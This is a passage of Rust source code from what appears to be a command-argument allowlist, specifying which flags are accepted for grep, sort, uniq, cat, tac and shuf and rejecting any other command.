            shaped(
                "vEFiwxGPsy",
                &["-e"],
                &[
                    "invert-match",
                    "ignore-case",
                    "extended-regexp",
                    "fixed-strings",
                    "word-regexp",
                    "line-regexp",
                    "no-messages",
                ],
                patterns,
            )
        }
        "sort" => shaped(
            "rnuVfhbdgMRs",
            &["-t", "-k"],
            &[
                "reverse",
                "numeric-sort",
                "unique",
                "version-sort",
                "ignore-case",
                "human-numeric-sort",
                "stable",
            ],
            0,
        ),
        "uniq" => shaped("udi", &[], &["unique", "repeated", "ignore-case"], 0),
        "tac" | "cat" => t.is_empty(),
        "shuf" => shaped("", &["-n"], &[], 0),
        _ => false,
    }
}
